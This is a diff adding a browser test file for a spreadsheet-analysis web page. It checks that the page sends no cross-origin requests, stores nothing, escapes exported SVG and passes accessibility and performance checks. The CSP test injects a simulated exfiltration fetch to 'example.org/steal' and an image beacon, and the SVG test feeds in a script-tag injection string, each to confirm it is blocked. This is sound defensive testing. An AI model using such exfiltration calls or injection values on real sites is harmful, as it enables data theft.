@@ -1,0 +1,317 @@
+// Privacy, security, accessibility and responsiveness of the page in headless Chromium:
+// - no request after the page has loaded, whatever the user does (load, every view, every
+//   export, print), and none to another origin ever;
+// - the Content Security Policy blocks an injected fetch to another origin and inline script;
+// - nothing is stored (no cookies, localStorage, sessionStorage, IndexedDB, caches) and no
+//   spreadsheet value reaches the console;
+// - charts are real pixels; SVG exports escape text;
+// - axe-core finds no serious or critical violation on any view;
+// - no main-thread task over 100 ms while a large generated file loads (Long Tasks API).
+
+import { after, before, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { createRequire } from 'node:module';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { launch } from './browser.mjs';
+import { serve } from './server.mjs';
+import {
+  DEMO_FILES,
+  WWW,
+  assertPageMatchesCli,
+  cli,
+  cliAnalyze,
+  downloadText,
+  networkRequests,
+  openRecorded,
+  pickFiles,
+  waitForLoad,
+} from './helpers.mjs';
+
+const require = createRequire(import.meta.url);
+const AXE_SOURCE = readFileSync(require.resolve('axe-core/axe.min.js'), 'utf8');
+const VIEWS = ['read', 'overview', 'children', 'cohort', 'qi', 'timescales'];
+
+let server;
+let browser;
+let dir;
+
+before(async () => {
+  server = await serve(WWW);
+  browser = await launch();
+  dir = mkdtempSync(join(tmpdir(), 'driftline-privacy-'));
+});
+
+after(async () => {
+  await browser?.close();
+  await server?.close();
+});
+
+async function openView(page, name) {
+  await page.click(`#tab-${name}`);
+  await page.waitForSelector(`#view-${name}[data-rendered="yes"]:not([hidden])`);
+  // Charts are drawn after their view: wait for every one in the view.
+  await page.waitForFunction(
+    (id) => [...document.querySelectorAll(`#${id} figure.chart`)].every((f) => f.dataset.drawn === 'yes'),
+    `view-${name}`,
+  );
+}
+
+/** Counts the non-white pixels of every drawn chart canvas on the page. */
+function chartInk(page) {
+  return page.$$eval('figure.chart canvas', (canvases) =>
+    canvases.map((canvas) => {
+      const { data } = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height);
+      let ink = 0;
+      for (let i = 0; i < data.length; i += 4) {
+        if (data[i + 3] > 0 && (data[i] < 240 || data[i + 1] < 240 || data[i + 2] < 240)) {
+          ink += 1;
+        }
+      }
+      return { slot: canvas.closest('figure').dataset.slot, ink, pixels: data.length / 4 };
+    }),
+  );
+}
+
+test('no request after load and none elsewhere, across every view, export and print', async () => {
+  const { context, page, requests, errors, consoleMessages } = await openRecorded(browser, `${server.origin}/`);
+  try {
+    const loaded = requests.length;
+    const files = DEMO_FILES;
+    await pickFiles(page, files);
+    const { report } = await assertPageMatchesCli(page, files);
+    await page.click('#problems-csv');
+    for (const view of VIEWS) {
+      await openView(page, view);
+      for (const button of await page.$$(`#view-${view} [data-export]`)) {
+        const [download] = await Promise.all([page.waitForEvent('download'), button.click()]);
+        await download.path();
+      }
+    }
+    await openView(page, 'children');
+    await page.click('#children-table [data-child]');
+    await page.waitForSelector('#child-detail figure[data-drawn="yes"]');
+    for (const selector of ['#children-csv', '#chronology-csv', '#child-detail [data-export="png"]', '#child-detail [data-export="svg"]']) {
+      await downloadText(page, selector);
+    }
+    // Print (headless Chromium returns at once) and the print layout.
+    await page.click('#print-child');
+    await page.emulateMedia({ media: 'print' });
+    await page.emulateMedia({ media: 'screen' });
+    // Tooltips and a redraw on resize.
+    const box = await page.locator('#child-detail canvas').boundingBox();
+    await page.mouse.move(box.x + box.width / 2, box.y + box.height / 2);
+    await page.setViewportSize({ width: 900, height: 800 });
+    await page.waitForTimeout(400);
+    await page.check('#pseudonymise');
+    await page.fill('#as-at-input', '2023-12-31');
+    await page.dispatchEvent('#as-at-input', 'change');
+    await waitForLoad(page);
+    await page.click('#clear-button');
+    assert.deepEqual(networkRequests(requests.slice(loaded)), [], 'requests after the page had loaded');
+    for (const url of networkRequests(requests)) {
+      assert.equal(new URL(url).origin, server.origin, `a request to another origin: ${url}`);
+    }
+    // Nothing stored anywhere.
+    const stored = await page.evaluate(async () => ({
+      cookie: document.cookie,
+      local: localStorage.length,
+      session: sessionStorage.length,
+      databases: (await indexedDB.databases()).length,
+      caches: (await caches.keys()).length,
+    }));
+    assert.deepEqual(stored, { cookie: '', local: 0, session: 0, databases: 0, caches: 0 });
+    assert.deepEqual((await context.cookies()).length, 0);
+    // No spreadsheet value in the console: no message at all mentions a child, a label or a
+    // problem.
+    const values = new Set();
+    for (const j of report.journeys) {
+      values.add(j.child_id);
+      for (const p of j.care_periods) {
+        for (const pl of p.placements) {
+          values.add(pl.placement_type);
+          if (pl.carer) values.add(pl.carer);
+        }
+      }
+    }
+    for (const d of report.input.diagnostics) {
+      values.add(d.message);
+    }
+    for (const message of consoleMessages) {
+      for (const value of values) {
+        assert.ok(!message.includes(value), `the console shows ${value}: ${message}`);
+      }
+    }
+    assert.deepEqual(await page.evaluate(() => window.__cspViolations), []);
+    assert.deepEqual(errors, []);
+  } finally {
+    await context.close();
+  }
+});
+
+test('the Content Security Policy blocks an injected fetch to another origin and inline script', async () => {
+  const { context, page, requests, errors } = await openRecorded(browser, `${server.origin}/`);
+  const answered = [];
+  const failed = [];
+  context.on('requestfinished', (request) => answered.push(request.url()));
+  context.on('requestfailed', (request) => failed.push(`${request.url()} ${request.failure()?.errorText}`));
+  try {
+    const result = await page.evaluate(async () => {
+      const out = {};
+      try {
+        await fetch('https://example.org/steal?data=1');
+        out.fetch = 'sent';
+      } catch (error) {
+        out.fetch = error.name;
+      }
+      const script = document.createElement('script');
+      script.textContent = 'window.__inline = 1';
+      document.body.append(script);
+      const image = new Image();
+      image.src = 'https://example.org/pixel.gif';
+      await new Promise((done) => setTimeout(done, 200));
+      out.inline = window.__inline ?? null;
+      out.violations = window.__cspViolations;
+      return out;
+    });
+    assert.equal(result.fetch, 'TypeError');
+    assert.equal(result.inline, null, 'inline script ran');
+    assert.ok(result.violations.some((v) => v.startsWith('connect-src https://example.org')), result.violations.join(' '));
+    assert.ok(result.violations.some((v) => v.startsWith('script-src')), result.violations.join(' '));
+    assert.ok(result.violations.some((v) => v.startsWith('img-src https://example.org')), result.violations.join(' '));
+    // Chromium announces the blocked image request, then fails it before it leaves.
+    assert.deepEqual(answered.filter((url) => url.includes('example.org')), []);
+    for (const url of requests.filter((u) => u.includes('example.org'))) {
+      assert.ok(failed.some((f) => f.startsWith(url) && / csp$|BLOCKED/.test(f)), `${url}: ${failed.join(' ')}`);
+    }
+    assert.deepEqual(errors, []);
+  } finally {
+    await context.close();
+  }
+});
+
+test('every view renders, charts have real pixels, SVG exports escape text', async () => {
+  const hostile = '<script>alert(1)</script>&"';
+  const csv = join(dir, 'hostile.csv');
+  writeFileSync(
+    csv,
+    'child_id,start_date,end_date,placement_type,carer\n' +
+      `"${hostile.replaceAll('"', '""')}",01/02/2022,,Foster care,"<b>carer</b>"\n` +
+      'C2,01/03/2021,,Kinship care,\n',
+  );
+  const { context, page, errors } = await openRecorded(browser, `${server.origin}/`);
+  try {
+    await pickFiles(page, [csv]);
+    await openView(page, 'children');
+    await page.fill('#children-search', 'script');
+    await page.waitForFunction(() => document.querySelectorAll('#children-table tbody tr').length === 1);
+    await page.click('#children-table [data-child]');
+    await page.waitForSelector('#child-detail figure[data-drawn="yes"]');
+    const timeline = (await downloadText(page, '#child-detail [data-export="svg"]')).text;
+    const parsed = await page.evaluate((svg) => {
+      const doc = new DOMParser().parseFromString(svg, 'image/svg+xml');
+      return {
+        error: doc.querySelector('parsererror') !== null,
+        scripts: doc.querySelectorAll('script').length,
+        bold: doc.querySelectorAll('b').length,
+        text: doc.documentElement.textContent,
+      };
+    }, timeline);
+    assert.equal(parsed.error, false, 'the SVG is well-formed');
+    assert.equal(parsed.scripts, 0);
+    assert.equal(parsed.bold, 0);
+    assert.ok(parsed.text.includes(hostile), 'the ID is in the SVG as text');
+    for (const view of VIEWS) {
+      await openView(page, view);
+    }
+    await openView(page, 'cohort');
+    const ink = await chartInk(page);
+    assert.ok(ink.length >= 1);
+    for (const { slot, ink: n, pixels } of ink) {
+      assert.ok(n > pixels * 0.01, `${slot}: only ${n} of ${pixels} pixels drawn`);
+    }
+    assert.deepEqual(errors, []);
+  } finally {
+    await context.close();
+  }
+});
+
+test('axe-core finds no serious or critical violation on any view', async () => {
+  const { context, page, errors } = await openRecorded(browser, `${server.origin}/`);
+  try {
+    // axe is injected by the test through the DevTools protocol; the page never ships it.
+    await page.evaluate(AXE_SOURCE);
+    const check = async (where) => {
+      const result = await page.evaluate(async () => {
+        const r = await window.axe.run(document, { resultTypes: ['violations'] });
+        return r.violations
+          .filter((v) => v.impact === 'serious' || v.impact === 'critical')
+          .map((v) => `${v.id} (${v.impact}): ${v.nodes.map((n) => n.target.join(' ')).slice(0, 3).join(', ')}`);
+      });
+      assert.deepEqual(result, [], `${where}: ${result.join('; ')}`);
+    };
+    await check('the empty page');
+    await page.click('#demo-button');
+    await waitForLoad(page);
+    for (const view of VIEWS) {
+      await openView(page, view);
+      await check(`the ${view} view`);
+    }
+    await openView(page, 'children');
+    await page.click('#children-table [data-child]');
+    await page.waitForSelector('#child-detail figure[data-drawn="yes"]');
+    await check('a child');
+    await page.click('#mapping-button');
+    await page.waitForSelector('#mapping:not([hidden]) .sheet-mapping');
+    await check('the mapping step');
+    assert.deepEqual(errors, []);
+  } finally {
+    await context.close();
+  }
+});
+
+test('a large file loads with no main-thread task over 100 ms', async () => {
+  const out = join(dir, 'large');
+  const generated = await cli(['generate', '--children', '20000', '--seed', '11', '--as-at', '2024-03-31',
+    '--messy-rate', '0.02', '--out', out]);
+  assert.equal(generated.code, 0, generated.stderr);
+  const files = ['children.csv', 'placements.csv', 'legal.csv', 'events.csv'].map((f) => join(out, f));
+  const start = Date.now();
+  const { context, page, errors } = await openRecorded(browser, `${server.origin}/`);
+  try {
+    const ready = await page.evaluate(() => performance.getEntriesByName('driftline-ready')[0].startTime);
+    await page.evaluate(() => {
+      window.__longTasks = [];
+      new PerformanceObserver((list) => {
+        for (const entry of list.getEntries()) {
+          window.__longTasks.push(entry.duration);
+        }
+      }).observe({ type: 'longtask', buffered: false });
+    });
+    const t0 = Date.now();
+    await page.setInputFiles('#file-input', files);
+    await waitForLoad(page);
+    const loadMs = Date.now() - t0;
+    const longTasks = await page.evaluate(() => window.__longTasks);
+    // The views open on the loaded data too.
+    await openView(page, 'children');
+    await openView(page, 'cohort');
+    const longest = Math.max(0, ...longTasks);
+    const cliReport = (await cliAnalyze(files, '2024-03-31')).report;
+    assert.equal(
+      Number((await page.textContent('[data-count="children"]')).replaceAll(',', '')),
+      cliReport.children,
+    );
+    process.stdout.write(
+      `# large load: ${files.length} files, ${cliReport.input.rows_read} rows, ` +
+        `page ready ${Math.round(ready)} ms after navigation, load ${loadMs} ms, ` +
+        `longest main-thread task ${Math.round(longest)} ms (${longTasks.length} over 50 ms), ` +
+        `test started ${start}\n`,
+    );
+    assert.ok(longest <= 100, `a main-thread task took ${longest} ms`);
+    assert.deepEqual(errors, []);
+  } finally {
+    await context.close();
+  }
+});
